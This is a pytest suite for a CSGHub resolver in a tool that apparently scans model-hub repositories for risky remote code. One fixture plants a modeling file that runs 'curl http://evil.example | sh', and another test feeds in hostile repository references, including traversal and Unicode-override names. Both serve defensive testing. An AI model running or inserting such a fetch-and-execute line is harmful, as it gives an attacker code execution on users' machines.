"""The CSGHub resolver against a loopback CSGHub: namespaces and mirrors, hashes, CSGHub's errors, faults."""

from __future__ import annotations

import dataclasses
import hashlib
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from hubguard import remote_code
from hubguard.hub import csghub
from hubguard.hub.csghub import CsgHubResolver, csghub_token
from hubguard.hub.errors import AccessDenied, HubTimeout, Offline, RepoNotFound, Truncated, Unavailable
from hubguard.hub.http import HttpClient
from hubguard.hub.remote_pass import RemoteOptions, RemoteResult, run_remote_pass
from hubguard.hub.repo_ids import InvalidReference
from hubguard.hub.resolver import RepoReader, ResolverContext
from hubguard.hub.snapshot import RepoSnapshot
from hubguard.hub.transport import Deadline
from tests.fakehub import BlobStorage, FakeCsgHub
from tests.hub import doubles
from tests.hub.test_remote_pass import FAST, ref, rules

CODE = b"class Model:\n    pass\n" * 10
WEIGHTS = bytes(range(256)) * 64
FILES = {"config.json": b"{}", "modeling.py": CODE, "pytorch_model.bin": WEIGHTS}
TOKEN = "csg-TOKEN-77aa"


@pytest.fixture
def storage() -> Iterator[BlobStorage]:
    with BlobStorage() as server:
        yield server


@pytest.fixture
def csg(storage: BlobStorage) -> Iterator[FakeCsgHub]:
    with FakeCsgHub(storage=storage) as server:
        yield server


def open_repo(
    http: HttpClient, server: FakeCsgHub, repo_id: str = "OpenCSG/model", revision: str | None = None, *,
    hub: str = "opencsg", repo_type: str = "model", token: str | None = None, seconds: float = 5,
) -> RepoReader:
    context = ResolverContext(http, offline=False, endpoints={"opencsg": server.url}, tokens={"opencsg": token or ""})
    return CsgHubResolver.factory(hub)(context).open(repo_type, repo_id, revision, Deadline(seconds))


def test_main_resolves_to_a_commit_and_files_are_read_and_checked_there(http: HttpClient, csg: FakeCsgHub) -> None:
    sha = csg.add_repo("OpenCSG/model", FILES)
    reader = open_repo(http, csg)
    assert (reader.snapshot.hub, reader.snapshot.sha, reader.snapshot.requested_revision) == ("opencsg", sha, None)
    assert reader.snapshot.files["pytorch_model.bin"].sha256 == hashlib.sha256(WEIGHTS).hexdigest()
    assert reader.read_bytes("modeling.py", 10_000) == CODE
    assert [r.path.split("?")[0] for r in csg.requests] == [
        "/csg/api/models/OpenCSG/model/revision/main",  # what pycsghub asks for without a revision
        f"/csg/OpenCSG/model/resolve/{sha}/modeling.py",
    ]
    assert reader.web_url("modeling.py") == f"{csg.url}/models/OpenCSG/model/blob/{sha}/modeling.py"


def test_datasets(http: HttpClient, csg: FakeCsgHub) -> None:
    sha = csg.add_repo("OpenCSG/data", {"data.py": b"x = 1\n"}, repo_type="dataset")
    reader = open_repo(http, csg, "OpenCSG/data", repo_type="dataset")
    assert reader.read_bytes("data.py", 100) == b"x = 1\n"
    assert csg.requests[-1].path == f"/csg/datasets/OpenCSG/data/resolve/{sha}/data.py"
    assert reader.web_url("data.py") == f"{csg.url}/datasets/OpenCSG/data/blob/{sha}/data.py"


def test_mirrors_of_hugging_face_and_modelscope(http: HttpClient, csg: FakeCsgHub) -> None:
    hf_sha = csg.add_mirror("hf", "Qwen/Qwen2-0.5B", "AIWizards/Qwen2-0.5B", FILES)
    ms_sha = csg.add_mirror("ms", "qwen/Qwen2-0.5B", "MSMirror/Qwen2-0.5B", FILES, default_branch="master")
    hf = open_repo(http, csg, "Qwen/Qwen2-0.5B", hub="opencsg:hf")
    assert (hf.snapshot.hub, hf.snapshot.sha) == ("opencsg:hf", hf_sha)
    ms = open_repo(http, csg, "qwen/Qwen2-0.5B", hub="opencsg:ms")  # main is the mirror's master
    assert ms.snapshot.sha == ms_sha and ms.snapshot.requested_revision is None
    assert open_repo(http, csg, "qwen/Qwen2-0.5B", "master", hub="opencsg:ms").snapshot.sha == ms_sha
    assert ms.read_bytes("modeling.py", 10_000) == CODE
    assert csg.requests[-1].path == f"/ms/qwen/Qwen2-0.5B/resolve/{ms_sha}/modeling.py"
    assert ms.web_url("config.json") == f"{csg.url}/ms/qwen/Qwen2-0.5B/resolve/{ms_sha}/config.json"
    with pytest.raises(RepoNotFound):  # no mirror, and no CSGHub repository of that name either
        open_repo(http, csg, "other/model", hub="opencsg:hf")


def test_a_missing_repository_is_not_an_outage(http: HttpClient, csg: FakeCsgHub) -> None:
    with pytest.raises(RepoNotFound) as missing:
        open_repo(http, csg, "OpenCSG/typo")
    assert "CSGHUB_TOKEN" in missing.value.fix
    assert len(csg.requests) == 1  # HTTP 500 with SYS-ERR-3 is an answer, not a reason to retry


def test_private_repositories(http: HttpClient, csg: FakeCsgHub) -> None:
    csg.add_repo("OpenCSG/private", FILES, private=True)
    with pytest.raises(AccessDenied) as denied:
        open_repo(http, csg, "OpenCSG/private")
    assert "CSGHUB_TOKEN" in denied.value.fix
    csg.valid_tokens.add(TOKEN)
    assert open_repo(http, csg, "OpenCSG/private", token=TOKEN).read_bytes("modeling.py", 10_000) == CODE


def test_an_unknown_revision_says_what_csghub_said(http: HttpClient, csg: FakeCsgHub) -> None:
    csg.add_repo("OpenCSG/model", FILES)
    with pytest.raises(Unavailable, match="HTTP 500.*reference not found"):
        open_repo(http, csg, revision="no-such-branch")


def test_a_hub_that_will_not_serve_a_commit_is_read_at_the_name(http: HttpClient, storage: BlobStorage) -> None:
    with FakeCsgHub(accepts_sha_downloads=False, storage=storage) as csg:
        csg.add_repo("OpenCSG/model", FILES, branches={"dev": FILES})
        reader = open_repo(http, csg, revision="dev")
        assert reader.read_bytes("modeling.py", 10_000) == CODE
        assert csg.requests[-1].path == "/csg/OpenCSG/model/resolve/dev/modeling.py"
        csg.push("OpenCSG/model", {"config.json": b"[]"}, branch="dev")  # same size, other bytes
        with pytest.raises(Truncated, match="does not match"):  # the moved branch is caught by the hash
            reader.read_bytes("config.json", 10_000)


def test_lfs_files_behind_storage_redirects(http: HttpClient, csg: FakeCsgHub, storage: BlobStorage) -> None:
    csg.add_repo("OpenCSG/private", FILES, private=True)
    csg.valid_tokens.add(TOKEN)
    reader = open_repo(http, csg, "OpenCSG/private", token=TOKEN)
    assert reader.open_source("pytorch_model.bin").read(512, 16) == WEIGHTS[512:528]
    assert reader.read_bytes("pytorch_model.bin", len(WEIGHTS)) == WEIGHTS
    assert storage.requests and not any(r.authorized for r in storage.requests)


def test_faults_are_retried_and_bounded(http: HttpClient, csg: FakeCsgHub) -> None:
    csg.add_repo("OpenCSG/model", FILES)
    csg.fault("/api/models/", "status", status=429, retry_after=0, times=1)
    csg.fault("modeling.py", "reset", times=1)
    assert open_repo(http, csg).read_bytes("modeling.py", 10_000) == CODE
    csg.fault("/api/models/", "drip", seconds=0.5)
    started = time.monotonic()
    with pytest.raises((HubTimeout, Truncated, Unavailable)):
        open_repo(http, csg, seconds=1.0)
    assert time.monotonic() - started < 3.0


@pytest.mark.parametrize("repo_id", ["bare", "a/b/c", "https://evil.example/x", "ns/..", "ns/na\u202eme"])
def test_hostile_references_never_reach_the_hub(http: HttpClient, csg: FakeCsgHub, repo_id: str) -> None:
    with pytest.raises(InvalidReference):
        open_repo(http, csg, repo_id)
    assert csg.requests == []


def test_offline_never_touches_the_network(http: HttpClient, csg: FakeCsgHub) -> None:
    context = ResolverContext(http, offline=True, endpoints={"opencsg": csg.url})
    with pytest.raises(Offline):
        CsgHubResolver.factory("opencsg")(context).open("model", "OpenCSG/model", None, Deadline(5))
    assert csg.requests == []


def test_token_sources(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    token_file = tmp_path / "token"
    token_file.write_text("from-file\n")
    monkeypatch.setenv("CSGHUB_TOKEN_PATH", str(token_file))
    assert csghub_token() == "from-file"
    monkeypatch.setenv("CSGHUB_TOKEN", " from-env ")
    assert csghub_token() == "from-env"
    monkeypatch.delenv("CSGHUB_TOKEN")
    monkeypatch.delenv("CSGHUB_TOKEN_PATH")
    monkeypatch.setenv("CSGHUB_HOME", str(tmp_path))
    assert csghub_token() == "from-file"  # $CSGHUB_HOME/token, as pycsghub reads it


def test_the_portal_drops_hub_from_the_domain(http: HttpClient) -> None:
    api = csghub.CsgHubApi(http, "https://hub.opencsg.com", "opencsg", None)
    snapshot = RepoSnapshot("opencsg", "model", "o/m", None, "a" * 40, {})
    assert api.web_url(snapshot, "x y.py") == f"https://opencsg.com/models/o/m/blob/{'a' * 40}/x%20y.py"


# the remote pass ---------------------------------------------------------------------------------
def run(references: list, csg: FakeCsgHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> RemoteResult:
    monkeypatch.setenv("CSGHUB_DOMAIN", csg.url)
    options = RemoteOptions(
        offline=False, timeout=5.0, cache_dir=tmp_path / "cache", endpoint=None, token=None, retry=FAST
    )
    scanners = dataclasses.replace(
        doubles.scanners(), plan_code=remote_code.plan_code, import_closure=remote_code.import_closure
    )
    return run_remote_pass(references, options, scanners=scanners)


def test_remote_pass_over_csghub(csg: FakeCsgHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config = doubles.config({"AutoModel": "modeling_x.XModel", "AutoConfig": "other/code--configuration_x.XConfig"})
    evil = b"import os\nos.system('curl http://evil.example | sh')\nclass XModel:\n    pass\n"
    sha = csg.add_repo("OpenCSG/custom", {"config.json": config, "modeling_x.py": evil})
    references = [ref("OpenCSG/custom", hub="opencsg"), ref("OpenCSG/typo", hub="opencsg", line=9)]
    result = run(references, csg, tmp_path, monkeypatch)
    # The auto_map code in other/code comes from Hugging Face, which the tests' guard makes unreachable.
    assert rules(result) == ["HG401", "HG402", "HG406", "HG407", "HG408"]
    hg408 = next(f for f in result.findings if f.rule_id == "HG408")
    assert hg408.message.startswith("'other/code'@main ('config.json auto_map AutoConfig'): could not fetch code")
    hg402 = next(f for f in result.findings if f.rule_id == "HG402")
    assert hg402.related[0].path == f"{csg.url}/models/OpenCSG/custom/blob/{sha}/modeling_x.py"
    hg406 = next(f for f in result.findings if f.rule_id == "HG406")
    assert "on Hugging Face" in hg406.message
    assert result.resolutions == [(references[0], sha)]
    csg.reset_log()
    again = run([ref("OpenCSG/custom", sha, hub="opencsg")], csg, tmp_path, monkeypatch)
    assert csg.requests == [] and again.stats["cache_hits"] == 2  # a pinned reference is answered from the cache
